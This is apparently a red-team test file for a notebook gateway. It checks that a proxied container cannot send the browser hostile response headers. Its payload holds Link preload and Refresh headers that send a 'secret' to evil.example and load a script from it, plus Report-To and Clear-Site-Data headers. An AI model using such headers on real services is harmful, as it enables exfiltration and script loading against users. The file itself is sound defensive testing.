"""Have the browser fetch from another site by a header.

Way: gateway
Control: configurable-http-proxy straight to the same server
Held by: no header of the container is passed on
"""

from tests.redteam.roads import evil_server

PAYLOAD = b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nLink: <http://evil.example/?secret>; rel=preload; as=script\r\nRefresh: 0; url=http://evil.example/?secret\r\nReport-To: {"endpoints":[{"url":"http://evil.example"}]}\r\nClear-Site-Data: "*"\r\nContent-Length: 2\r\nConnection: close\r\n\r\n[]'
REPEAT = b""


def test_control_it_passes_a_plain_proxy(open_road) -> None:
    with open_road(PAYLOAD, REPEAT) as answer:
        assert "evil.example" in answer.headers["link"]


def test_the_gateway_lets_nothing_of_it_through(evil_session) -> None:
    with evil_server(evil_session, PAYLOAD, REPEAT):
        answer = evil_session.get("/api/kernels")
    assert not {"link", "refresh", "report-to", "clear-site-data", "nel"} & set(answer.headers)
